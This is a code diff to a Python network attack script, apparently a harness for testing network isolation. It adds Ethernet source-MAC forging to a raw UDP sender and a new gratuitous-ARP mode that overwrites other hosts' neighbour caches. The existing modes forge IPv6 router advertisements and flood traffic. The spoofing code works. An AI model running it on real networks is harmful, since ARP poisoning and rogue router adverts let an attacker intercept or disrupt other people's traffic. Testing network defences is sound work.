@@ -29,8 +29,12 @@
 #   attack.py ra --iface IF --src FE80ADDR [--lifetime S]
 #       a router advertisement (hop limit 255) from FE80ADDR to ff02::1
 #       announcing a default router for S seconds (default 1800).
-#   attack.py rawudp --iface IF --dmac MAC --src A --dst B --sport N --dport N --tag TAG
-#       one UDP datagram with any source (0.0.0.0, ::, forged) as a raw frame.
+#   attack.py rawudp --iface IF --dmac MAC --src A --dst B --sport N --dport N --tag TAG [--smac MAC]
+#       one UDP datagram with any source (0.0.0.0, ::, forged) as a raw frame;
+#       --smac forges the Ethernet source too (default: IF's own address).
+#   attack.py garp --iface IF --ip A
+#       a gratuitous ARP request (broadcast, sender and target A) claiming
+#       that A is at IF's address: it updates the neighbour caches that hold A.
 #   attack.py bcast --tag TAG [--iface IF] [--timeout S] DST:PORT...
 #       UDP datagrams to broadcast/multicast (or any) addresses from one socket
 #       per family (SO_BROADCAST; ff02::/16 goes out IF); prints one line per
@@ -378,12 +382,27 @@ def ra(args):
 def rawudp(args):
     # one UDP datagram with any source (0.0.0.0, ::, forged) to any
     # destination, as a raw frame
-    o, _ = opts(args, ("iface", "dmac", "src", "dst", "sport", "dport", "tag"))
+    o, _ = opts(args, ("iface", "dmac", "src", "dst", "sport", "dport", "tag", "smac"))
     fr = Frames(o["iface"], o["dmac"])
+    if o.get("smac"):
+        fr.src = mac_bytes(o["smac"])
     src, dst = o["src"], o["dst"]
     l4 = l4_udp(src, dst, int(o["sport"]), int(o["dport"]), o["tag"].encode())
     fr.send(ip_packet(src, dst, 17, l4, 255 if is6(dst) else 64))
     print("sent udp %s -> %s:%s" % (src, dst, o["dport"]))
+    return 0
+
+
+def garp(args):
+    o, _ = opts(args, ("iface", "ip"))
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    s.bind((o["iface"], 0))
+    me = if_mac(o["iface"])
+    ip = socket.inet_aton(o["ip"])
+    bc = b"\xff" * 6
+    arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + me + ip + b"\x00" * 6 + ip
+    s.send(bc + me + struct.pack("!H", 0x0806) + arp)
+    print("garp %s is-at %s" % (o["ip"], ":".join("%02x" % x for x in me)))
     return 0
 
 
@@ -571,7 +590,7 @@ def echo(args):
     return 0
 
 
-MODES = {"prime": prime, "nd": nd, "ra": ra, "rawudp": rawudp, "bcast": bcast, "flood": flood,
+MODES = {"prime": prime, "nd": nd, "ra": ra, "rawudp": rawudp, "garp": garp, "bcast": bcast, "flood": flood,
          "count": count, "echo": echo}
 
 
